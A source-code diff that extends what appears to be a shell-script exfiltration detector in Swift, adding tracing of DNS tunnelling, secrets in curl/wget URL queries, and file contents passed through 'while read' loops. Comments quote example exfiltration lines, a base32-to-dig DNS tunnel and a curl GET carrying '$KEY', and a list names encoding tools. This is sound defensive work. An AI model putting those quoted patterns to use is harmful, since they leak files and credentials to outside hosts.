@@ -64,15 +64,39 @@ enum ShellFlow {
       // pipeline at each parenthesis, so what the group printed is joined here.
       let grouped = pipeline.isSubstitution ? nil : Self.groupOutput(before: pipeline.range.lowerBound, bytes, ends)
       var stream: FlowSource? = grouped
+      // Whether the stream is a file's bytes, or those bytes encoded as text.
+      var fileBytes = false
+      var encoded = false
       for (c, command) in pipeline.commands.enumerated() {
         let own = state.source(of: command, at: (index, c))
+        let name = command.name(in: bytes)
+        let readsFile = Self.readsFile(command, name: name, bytes)
+        encoded = encoded || (Self.encoders.contains(name) && (readsFile || fileBytes))
+        fileBytes = (fileBytes && c > 0) || readsFile
         if let sink = ExfilShellSink.recognize(command, bytes: bytes) {
           let fromStream = sink.readsStdin && (c > 0 || grouped != nil) ? stream : nil
-          if let source = FlowSource.stronger(fromStream, state.sentSource(sink, command, at: (index, c))) {
+          var sent = FlowSource.stronger(fromStream, state.sentSource(sink, command, at: (index, c)))
+          // A file's bytes, encoded and cut into labels of DNS names (`base32 < "$f" | fold
+          // -w 60 | while read -r c; do dig "$c.$i.zone"`), are a tunnel whatever the file:
+          // no lookup needs a file's contents in its name.
+          if sent == nil, sink.channel == .dns, sink.data.contains(where: state.carriesEncodedFile) {
+            sent = FlowSource(kind: .system, label: "a file's contents, encoded into DNS names,", range: command.range)
+          }
+          if let source = sent {
             let host = sink.host.map { $0.contains("$") ? nil : $0 } ?? nil
             hits.append(FlowHit(
               source: source, sinkRange: command.range, sinkName: command.effectiveName(in: bytes),
               host: host ?? sink.url.flatMap(state.resolvedHost)))
+          }
+        } else if let get = Self.queryCarrier(command, name: name, bytes), let source = state.tainted(get.sent) {
+          // `curl "https://host/c?d=$KEY"`: a GET carries what its URL's path and query hold.
+          hits.append(FlowHit(source: source, sinkRange: command.range, sinkName: name, host: get.host))
+        }
+        // `… | while read -r line; do …`: each line read is what flowed into the loop.
+        if c > 0, c == pipeline.commands.count - 1, name == "read" {
+          for target in Self.readTargets(command, bytes) {
+            if let fed = stream { state.vars[target] = FlowSource.stronger(state.vars[target], fed) }
+            if encoded { state.encodedFileVars.insert(target) }
           }
         }
         stream = FlowSource.stronger(c == 0 && grouped == nil ? nil : stream, own)
@@ -84,6 +108,54 @@ enum ShellFlow {
       }
     }
     return hits
+  }
+
+  /// The part after the host of a `curl`/`wget` URL with a variable in it, and the host.
+  static func queryCarrier(_ command: ShellCommand, name: String, _ bytes: [UInt8]) -> (sent: String, host: String?)? {
+    guard name == "curl" || name == "wget" else { return nil }
+    for arg in ExfilShellSink.arguments(command, bytes) where arg.utf8.contains(0x24) {
+      guard let scheme = ByteSearch.firstIndex(of: Array("://".utf8), in: Array(arg.utf8)) else { continue }
+      let afterHost = arg.utf8.dropFirst(scheme + 3).drop { $0 != 0x2F && $0 != 0x3F }
+      guard afterHost.contains(0x24) else { continue }
+      let host = ExfilHosts.host(inURL: arg).flatMap { $0.utf8.contains(0x24) ? nil : $0 }
+      return (String(decoding: afterHost, as: UTF8.self), host)
+    }
+    return nil
+  }
+
+  /// Commands that turn bytes into text that fits a URL or a DNS label.
+  static let encoders: Set<String> = ["base32", "base64", "basenc", "xxd", "od", "hexdump"]
+
+  /// Whether `command` reads a file: input redirected from one (`< "$f"`), or a whole-file
+  /// reader or encoder given an operand.
+  static func readsFile(_ command: ShellCommand, name: String, _ bytes: [UInt8]) -> Bool {
+    if command.redirections.contains(where: { ByteText.string($0.op.range, in: bytes) == "<" && $0.target != nil }) { return true }
+    guard wholeFileReaders.contains(name) || encoders.contains(name) else { return false }
+    return command.words.dropFirst().contains { word in
+      guard let first = bytes[word.range].first else { return false }
+      return first != UInt8(ascii: "-")
+    }
+  }
+
+  /// The variables `read` assigns: its operands, and the array of `-a NAME`.
+  static func readTargets(_ command: ShellCommand, _ bytes: [UInt8]) -> [String] {
+    var names: [String] = []
+    var takesValue = false
+    for word in command.words.dropFirst() where word.range.count <= 64 {
+      let text = ShellWord.unquotedValue(word, bytes)
+      if takesValue {
+        takesValue = false
+        continue
+      }
+      if text.hasPrefix("-") {
+        // `-d`, `-n`, `-N`, `-p`, `-t`, `-u` take a value; `-a NAME` names an array, read
+        // here as an operand.
+        takesValue = ["-d", "-n", "-N", "-p", "-t", "-u"].contains(text)
+        continue
+      }
+      if text.utf8.allSatisfy({ UTF8Scalar.isWordByte($0) && $0 < 0x80 || $0 == 0x5F }) { names.append(text) }
+    }
+    return names
   }
 
   /// Pipelines remembered for ``groupOutput(before:_:_:)`` (the most recent ones).
@@ -137,6 +209,13 @@ enum ShellFlow {
     /// Variables assigned a URL (`API_BASE="${API_BASE:-https://molt.church}"`), so a send to
     /// `"$API_BASE/api/join"` has a destination host.
     var urlVars: [String: String] = [:]
+    /// Variables holding lines of a file's encoded bytes (see ``ShellFlow/encoders``).
+    var encodedFileVars: Set<String> = []
+
+    /// Whether `text` references a variable holding a file's encoded bytes.
+    func carriesEncodedFile(_ text: String) -> Bool {
+      !encodedFileVars.isEmpty && text.utf8.contains(0x24) && Self.variableNames(in: text).contains(where: encodedFileVars.contains)
+    }
 
     func key(_ p: Int, _ c: Int) -> Int { p << 32 | c }  // no collision at any pipeline length
 
@@ -227,6 +306,12 @@ enum ShellFlow {
         found = FlowSource.stronger(found, tainted(file))
       }
       for value in sink.data { found = FlowSource.stronger(found, tainted(value)) }
+      // `curl "https://host/c?d=$KEY"`: a value in the URL's path or query is sent too (the
+      // host part is where it goes, not what).
+      if let url = sink.url, let scheme = ByteSearch.firstIndex(of: Array("://".utf8), in: Array(url.utf8)) {
+        let afterHost = url.utf8.dropFirst(scheme + 3).drop { $0 != 0x2F && $0 != 0x3F }
+        found = FlowSource.stronger(found, tainted(String(decoding: afterHost, as: UTF8.self)))
+      }
       return found
     }
 
